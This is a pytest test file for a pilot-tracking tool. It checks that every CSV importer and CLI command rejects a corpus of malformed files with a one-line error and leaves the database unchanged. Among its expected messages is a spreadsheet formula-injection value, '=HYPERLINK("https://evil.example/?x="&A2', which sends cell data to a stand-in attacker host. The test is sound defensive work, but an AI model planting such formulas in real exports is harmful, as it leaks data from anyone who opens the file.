"""The bad-input corpus: every file goes through every reader a user can hand a file to (usage
reports, participants, benefits, concerns, training sessions, pulse surveys) and through the CLI commands that
read files. Each gets its one-line message and leaves the database byte-for-byte unchanged
(CLI: exit 2, one line)."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from pilot import cli, demo, store
from pilot.core.errors import PilotError
from pilot.intake import usage
from pilot.playbook import survey, training
from pilot.setup import participants
from pilot.setup.pilots import get_pilot
from pilot.stories import benefits, concerns

from .conftest import ROOT, snapshot

CORPUS = ROOT / "tests" / "bad_input"
SETTING = '"Display concealed user, group, and site names in all reports"'
NOT_TEXT = "save it as CSV UTF-8"
# Refused the same way by every reader (pilot.core.csvfile): the file itself cannot be read.
EVERY_READER = {
    "workbook_really_xlsx.csv": f"is not CSV text (an Excel workbook or a zip archive): {NOT_TEXT}",
    "compressed.csv.gz": f"is not CSV text (a gzip archive: unpack it first): {NOT_TEXT}",
    "empty.csv": "is empty",
    "whitespace_only.csv": "is empty",
    "binary_nul.csv": f"is not CSV text (a NUL byte on line 1: binary, or UTF-16 without BOM): {NOT_TEXT}",
    "random_bytes.csv": "is not CSV text (byte 0x",
    "utf16_without_bom.csv": "is not CSV text (a NUL byte on line 1: binary, or UTF-16 without BOM)",
    "cp1252_names.csv": (
        f"is not CSV text (byte 0xe9 on line 2 is not UTF-8: Windows-1252 or binary?): {NOT_TEXT}"
    ),
    "very_long_line.csv": ": the first line is 2,000,000 characters long: not a CSV header",
    "ragged_long_row.csv": ": the header has 11 fields but line 5 has 12",
    "ragged_short_row.csv": ": the header has 11 fields but line 7 has 9",
    "duplicate_posted_count.csv": ": the column 'Posted Count' appears 2 times in the header: keep one",
    "participants_email_twice.csv": ": the column 'email' appears 2 times in the header: keep one",
    "field_over_csv_limit_unquoted.csv": ": line 3: a field is longer than 131,072 characters",
    "field_over_csv_limit_in_a_name.csv": ": line 4: a field is longer than 131,072 characters",
    "field_over_csv_limit_in_a_benefit.csv": ": line 2: a field is longer than 131,072 characters",
    "nul_in_an_email_after_4kb.csv": "is not CSV text (a NUL byte on line 92: binary, or UTF-16 without BOM)",
    "escape_code_in_a_name.csv": ": line 5 holds a control character (U+001B): remove it",
}
# Readable files of the wrong kind for a reader: it names the columns it lacks.
WRONG_KIND = {
    "usage": "is not a known format. Known formats: Microsoft Teams user activity",
    "participants": "The participants file lacks the column(s) ",
    "benefits": "The benefits file lacks the column(s) ",
    "concerns": "The concerns file lacks the column(s) ",
    "training": "The training file lacks the column(s) ",
    "survey": "The survey file lacks the column(s) ",
}
READERS = {
    "usage": lambda db, pilot, path: usage.import_file(db, pilot, path),
    "participants": lambda db, pilot, path: participants.import_csv(db, pilot, path.read_bytes()),
    "benefits": lambda db, pilot, path: benefits.import_csv(db, pilot, path.read_bytes()),
    "concerns": lambda db, pilot, path: concerns.import_csv(db, pilot, path.read_bytes()),
    "training": lambda db, pilot, path: training.import_csv(db, pilot, path.read_bytes()),
    "survey": lambda db, pilot, path: survey.import_csv(db, pilot, path.read_bytes()),
}
COMMANDS = {
    "usage": "import",
    "participants": "participants",
    "benefits": "benefits",
    "training": "training",
    "survey": "survey",
}
# What only the usage importer says about an admin export (other readers: WRONG_KIND).
MESSAGES = {
    "concealed_upns.csv": (
        "has concealed user names (32-character codes instead of emails), so no row can be matched "
        f"to the sample group. A Microsoft 365 global admin can turn off {SETTING}"
    ),
    "period_30_days.csv": "covers 30 days (Report Period): export the 7-day report (D7)",
    "header_only.csv": "has a header but no data rows",
    "same_person_twice.csv": "the same person appears twice (kira.garcia@example.com on lines 2, 322)",
    "negative_count.csv": "column 'Posted Count' line 5: '-3' is not a count (a whole number, 0 or more)",
    "fractional_count.csv": "column 'Read Count' line 7: '3.5' is not a count",
    "text_count.csv": "column 'Liked Count' line 9: 'lots' is not a count",
    "exponent_count.csv": "column 'Posted Count' line 4: '1e9' is not a count",
    "arabic_digits_count.csv": "column 'Posted Count' line 6: '١٢' is not a count",
    "formula_in_count.csv": "line 3: '=HYPERLINK(\"https://evil.example/?x=\"&A2' is not a count",
    "missing_email_column.csv": "is not a known format. Known formats: Microsoft Teams user activity",
    "unknown_format.csv": (
        "Header seen: Report Refresh Date,User Principal Name,Is Deleted,Deleted Date,Last Activity Date,"
        "Viewed Or Edited File Count"
    ),
    "slack_without_email.csv": "is a Slack member analytics export without the Email column",
    "Desk Member Analytics Prior 30 Days - Nov 22, 2026.csv": "covers 30 days: export the last 7 days",
    "slack_without_dates_in_name.csv": "does not say its week: give the week it covers",
    "refresh_date_not_a_date.csv": "Report Refresh Date 'yesterday' is not a date like 2026-11-22",
    "two_refresh_dates.csv": "holds several Report Refresh Dates: 2026-10-18, 2026-10-25",
    "generic_bad_dates.csv": "column 'week' lines 2, 3, 4: '03/04/2026' is not a date like 2026-09-07",
    "generic_bad_channel.csv": "column 'channel' line 2: 'email' is not tool or replaced",
    "generic_same_person_twice.csv": "the same person appears twice (kira.garcia@example.com on lines 2, 3)",
}


PILOT_DATES = "(the pilot runs 2026-08-31 to 2026-11-22)"
FAR = "is more than 8 weeks before the pilot's start or after its end " + PILOT_DATES
MESSAGES |= {
    "refresh_date_year_1.csv": "refresh_date_year_1.csv: its dates are out of range (year 1 or 9999?)",
    "refresh_date_year_9999.csv": (
        "the week of 9999-12-27 is more than 8 weeks before the pilot's start or after its end "
        f"{PILOT_DATES}: check the report's date, or give a week from 2026-07-06 to 2027-01-11"
    ),
    "refresh_date_a_year_early.csv": f"the week of 2025-10-20 {FAR}",
    "generic_week_year_1.csv": f"the week of 0001-01-01 {FAR}",
    "nobody_matched_wrong_domain.csv": (
        "nobody_matched_wrong_domain.csv: 0 of 60 participants found: wrong tenant or a domain typo?"
    ),
}
# Files of one reader's kind with a problem only that reader sees (text over its length limit).
ONE_READER = {
    "participants_name_too_long.csv": (
        "participants",
        "line 3: the name is 250 characters long: the limit is 200",
    ),
    "benefits_description_too_long.csv": (
        "benefits",
        "Line 2: The description is 6,000 characters long: the limit is 5,000",
    ),
}
FILES = sorted({*EVERY_READER, *MESSAGES, *ONE_READER})
CASES = [(name, reader) for name in FILES for reader in READERS]


def expected(name: str, reader: str) -> str:
    if name in EVERY_READER:
        return EVERY_READER[name]
    if name in ONE_READER and ONE_READER[name][0] == reader:
        return ONE_READER[name][1]
    return MESSAGES[name] if reader == "usage" and name in MESSAGES else WRONG_KIND[reader]


def test_the_corpus_is_complete():
    files = sorted(p.name for p in CORPUS.iterdir() if p.suffix != ".py" and p.is_file())
    assert files == FILES
    assert len(files) == len(EVERY_READER) + len(MESSAGES) + len(ONE_READER)
    assert len(files) >= 20


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    """The demo pilot with all its usage, built once; each test works on a copy."""
    path = tmp_path_factory.mktemp("bad") / "template.db"
    db = store.connect(path)
    demo.load(db)
    db.close()
    return path


@pytest.mark.parametrize(("name", "reader"), CASES)
def test_every_reader_refuses_and_stores_nothing(name: str, reader: str, copy: Path):
    before_bytes, before = copy.read_bytes(), snapshot(copy)
    db = store.connect(copy)
    with pytest.raises(PilotError) as e:
        READERS[reader](db, get_pilot(db, "demo"), CORPUS / name)
    db.close()
    assert expected(name, reader) in str(e.value)
    assert snapshot(copy) == before
    assert copy.read_bytes() == before_bytes


@pytest.mark.parametrize(("name", "reader"), [(n, r) for n, r in CASES if r in COMMANDS])
def test_cli_refuses_with_one_line_and_exit_2(name: str, reader: str, copy: Path, capsys):
    before_bytes = copy.read_bytes()
    code = cli.main([COMMANDS[reader], "--db", str(copy), "--pilot", "demo", str(CORPUS / name)])
    out, err = capsys.readouterr()
    assert (code, out) == (2, "")
    assert err.startswith("error: ") and err.count("\n") == 1
    assert expected(name, reader) in err
    assert copy.read_bytes() == before_bytes


def test_cli_refusal_in_a_real_process(copy: Path):
    run = subprocess.run(
        [
            sys.executable,
            "-m",
            "pilot",
            "import",
            "--db",
            str(copy),
            "--pilot",
            "demo",
            str(CORPUS / "concealed_upns.csv"),
        ],
        capture_output=True,
        text=True,
        cwd=ROOT,
    )
    assert run.returncode == 2 and run.stdout == ""
    assert (
        run.stderr.startswith("error: concealed_upns.csv has concealed user names") and SETTING in run.stderr
    )
    assert run.stderr.count("\n") == 1


def test_cli_bad_week_and_missing_file(copy: Path, capsys):
    assert (
        cli.main(
            ["import", "--db", str(copy), "--pilot", "demo", "--week", "soon", str(CORPUS / "empty.csv")]
        )
        == 2
    )
    assert capsys.readouterr().err == "error: --week must be a date like 2026-11-16, not 'soon'\n"
    assert cli.main(["import", "--db", str(copy), "--pilot", "demo", str(CORPUS / "nope.csv")]) == 2
    assert capsys.readouterr().err == f"error: No such file: {CORPUS / 'nope.csv'}\n"
